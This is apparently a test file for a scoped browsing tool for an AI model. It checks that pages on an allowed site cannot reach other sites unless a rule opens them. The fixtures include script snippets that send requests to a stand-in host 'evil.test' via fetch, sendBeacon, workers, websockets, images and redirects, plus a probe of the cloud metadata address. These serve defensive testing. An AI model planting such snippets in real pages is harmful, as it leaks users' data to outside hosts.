import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type OpenedSession, openSession } from "../src/index.ts";

/** One server for all names: the browser is told that every one is served from here. */
const SITES = ["shop.test", "www.shop.test", "cdn.test", "late.test", "evil.test", "frame.test", "other.test"] as const;

let server: Server;
let place = "";
const hits: string[] = [];
const pages = new Map<string, (response: ServerResponse) => void>();

beforeAll(async () => {
  server = createServer((request: IncomingMessage, response) => {
    const at = `${request.headers.host ?? ""}${request.url ?? ""}`;
    hits.push(`${request.method ?? ""} ${at}`);
    const answer = pages.get(at);
    if (answer !== undefined) return answer(response);
    response
      .writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
      .end(`<title>${at}</title><p>at ${at}`);
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const address = server.address();
  place = `127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

function html(at: string, body: string): void {
  pages.set(at, (response) => void response.writeHead(200, { "content-type": "text/html" }).end(body));
}

function redirect(at: string, to: string, status = 302): void {
  pages.set(
    at,
    (response) => void response.writeHead(status, { location: to, "access-control-allow-origin": "*" }).end(),
  );
}

function hitsOf(host: string): readonly string[] {
  return hits.filter((hit) => hit.split(" ")[1]?.startsWith(`${host}/`));
}

function open(options: Parameters<typeof openSession>[0] = {}): Promise<OpenedSession> {
  return openSession({ hostMap: Object.fromEntries(SITES.map((name) => [name, place])), ...options });
}

describe("a site in scope", () => {
  let session: OpenedSession;
  /** The same with a rule that widens: what arrives there has fired. */
  let widened: OpenedSession;
  /** Lets go what is refused elsewhere as a report or an effect. */
  let observing: OpenedSession;
  beforeAll(async () => {
    session = await open({ allow: ["shop.test"], effects: { allow: ["POST http://shop.test/on307"] } });
    observing = await open({ allow: ["shop.test"], profile: "observe" });
    widened = await open({ allow: ["shop.test"], rule: ({ site }) => (site === "evil.test" ? { allow: true } : null) });
  });
  afterAll(async () => {
    await session.close();
    await widened.close();
    await observing.close();
  });

  test("opens, with its subdomains, and the model is told", async () => {
    expect(session.instructions).toContain("Sites in scope: shop.test, with subdomains.");
    for (const address of ["http://shop.test/", "http://www.shop.test./"])
      expect((await session.call("navigate", { url: address })).envelope).toMatchObject({ ok: true });
  });

  test("a navigation out of scope leaves the page where it is, and nothing arrives", async () => {
    await session.call("navigate", { url: "http://shop.test/stays" });
    const { envelope } = await session.call("navigate", { url: "http://other.test/" });
    expect(envelope).toMatchObject({
      ok: false,
      refused: { rule: "reach.site", site: "other.test", operator: "--allow other.test" },
    });
    expect(JSON.stringify((await session.call("get_text", {})).envelope)).toContain("at shop.test/stays");
    expect(hitsOf("other.test")).toEqual([]);
  });

  const EVIL = "http://evil.test";
  test.each<[string, string, "load" | "click"]>([
    ["a link", `<a href="${EVIL}/link">Go</a>`, "click"],
    ["a link that is sent on", `<a href="/on">Go</a>`, "click"],
    ["a form post that is sent on", `<form method="post" action="/on307"><button>Go</button></form>`, "click"],
    ["a popup that is sent on", `<a target="_blank" href="/on">Go</a>`, "click"],
    ["a picture that is sent on", `<img src="/on">`, "load"],
    [
      "a picture of a script",
      `<script>const i = new Image(); i.src = "${EVIL}/script.png"; document.head.append(i)</script>`,
      "load",
    ],
    [
      "a picture in a style of a script",
      `<p>x<script>document.body.insertAdjacentHTML("beforeend", '<style>p{background:url(${EVIL}/bg)}</style>')</script>`,
      "load",
    ],
    ["a fetch", `<script>fetch("${EVIL}/fetch", { mode: "no-cors" }).catch(() => {})</script>`, "load"],
    ["a fetch that is sent on", `<script>fetch("/on", { mode: "no-cors" }).catch(() => {})</script>`, "load"],
    ["a beacon", `<script>navigator.sendBeacon("${EVIL}/beacon", "x")</script>`, "load"],
    [
      "a worker's fetch",
      `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/worker", {mode:"no-cors"})'])))</script>`,
      "load",
    ],
    ["a socket", `<script>new WebSocket("ws://evil.test/socket")</script>`, "load"],
    [
      "a script's own navigation",
      `<script>addEventListener("load", () => { location = "${EVIL}/location"; })</script>`,
      "load",
    ],
  ])("%s reaches no other site, and does where a rule opens it", async (what, body, how) => {
    redirect("shop.test/on", `${EVIL}/sent-on`);
    redirect("shop.test/on307", `${EVIL}/sent-on`, 307);
    const path = `/p-${what.replaceAll(/[^a-z]/g, "")}`;
    html(
      `shop.test${path}`,
      `<title>stays</title><p>words${body}<script>addEventListener("load", () => setTimeout(() => fetch("/fence"), 300))</script>`,
    );
    const visit = async (by: OpenedSession): Promise<string> => {
      hits.length = 0;
      const opened = await by.call("navigate", { url: `http://shop.test${path}` });
      const done =
        how === "load"
          ? opened
          : await by.call("click", { target: body.includes("<button") ? 'button "Go"' : 'link "Go"' });
      return JSON.stringify(done.envelope);
    };
    const told = await visit(session);
    if (how === "click") expect(told).toContain("reach.");
    await expect.poll(() => hits.includes("GET shop.test/fence"), { timeout: 10_000 }).toBe(true);
    expect(hitsOf("evil.test")).toEqual([]);
    expect(JSON.stringify((await session.call("get_text", {})).envelope)).toContain("words");

    // No rule sends what changes something on to another site; the server here takes no sockets.
    if (what.includes("form post") || what.includes("socket")) return;
    await visit(what.includes("beacon") ? observing : widened);
    await expect.poll(() => hitsOf("evil.test").length, { timeout: 10_000 }).toBeGreaterThan(0);
  });

  test("what the page's own HTML names loads, also by a script, and what it does not name does not", async () => {
    html(
      "shop.test/assets",
      `<link rel="stylesheet" href="//cdn.test/a.css"><img src="http://cdn.test/b.png"><a href="http://late.test/">a link is no asset</a>
       <script>addEventListener("load", () => { for (const host of ["cdn.test", "late.test"]) { const i = new Image(); i.src = "http://" + host + "/by-script.png"; } })</script>`,
    );
    await session.call("navigate", { url: "http://shop.test/assets" });
    await expect.poll(() => hitsOf("cdn.test").length, { timeout: 10_000 }).toBe(3);
    const { envelope } = await session.call("network_requests", { url_contains: "late.test" });
    expect(JSON.stringify(envelope)).toContain("reach.asset");
    expect(hitsOf("late.test")).toEqual([]);
  });

  test("a host that is named while the page is still coming", async () => {
    hits.length = 0;
    let finish = (): void => {};
    pages.set("shop.test/slow", (response) => {
      response.writeHead(200, { "content-type": "text/html" });
      response.write(`<p>first</p>${" ".repeat(4_000)}<img src="http://cdn.test/early.png">`);
      finish = () => void response.end(`<img src="http://late.test/end.png"><p>last</p>`);
    });
    const opened = session.call("navigate", { url: "http://shop.test/slow" });
    await expect.poll(() => hitsOf("cdn.test").length, { timeout: 10_000 }).toBe(1);
    finish();
    await opened;
    await expect.poll(() => hitsOf("late.test").length, { timeout: 10_000 }).toBe(1);
  });

  test("a frame of another site loads and is not shown", async () => {
    html("shop.test/framed", `<p>outside<iframe src="http://frame.test/inside"></iframe>`);
    await session.call("navigate", { url: "http://shop.test/framed" });
    await expect.poll(() => hitsOf("frame.test").length, { timeout: 10_000 }).toBeGreaterThan(0);
    const text = JSON.stringify((await session.call("get_text", {})).envelope);
    expect(text).toContain("outside");
    expect(text).not.toContain("at frame.test/inside");
  });
});

describe("no scope given", () => {
  test("the first site comes into scope, the second does not", async () => {
    await using session = await open();
    hits.length = 0;
    expect(session.instructions).toContain("the first one you open comes into scope");
    expect((await session.call("navigate", { url: "http://www.shop.test/" })).envelope.ok).toBe(true);
    expect((await session.call("navigate", { url: "http://shop.test/" })).envelope.ok).toBe(true);
    expect((await session.call("navigate", { url: "http://other.test/" })).envelope.refused).toMatchObject({
      rule: "reach.site",
      operator: "--allow shop.test --allow other.test",
    });
    expect(hitsOf("other.test")).toEqual([]);
  });
});

describe("all kinds bound, and assets closed", () => {
  test("nothing of another site loads", async () => {
    await using session = await open({
      allow: ["shop.test"],
      assets: "closed",
      reach: ["navigation", "data", "subresource", "subframe"],
    });
    hits.length = 0;
    html(
      "shop.test/bound",
      `<p>words<img src="http://cdn.test/b.png"><iframe src="http://frame.test/"></iframe><script src="http://cdn.test/c.js"></script>`,
    );
    expect((await session.call("navigate", { url: "http://shop.test/bound" })).envelope.snapshot).toContain("words");
    expect(hits).toEqual(expect.arrayContaining(["GET shop.test/bound"]));
    expect([...hitsOf("cdn.test"), ...hitsOf("frame.test")]).toEqual([]);
  });
});

describe("profile observe", () => {
  test("lets other sites go and writes them down", async () => {
    await using session = await open({ allow: ["shop.test"], profile: "observe" });
    expect((await session.call("navigate", { url: "http://other.test/" })).envelope.ok).toBe(true);
    expect((await session.call("navigate", { url: "http://169.254.169.254/" })).envelope.refused?.rule).toBe(
      "reach.metadata",
    );
    expect(session.instructions).toContain("recorded and not refused");
  });
});
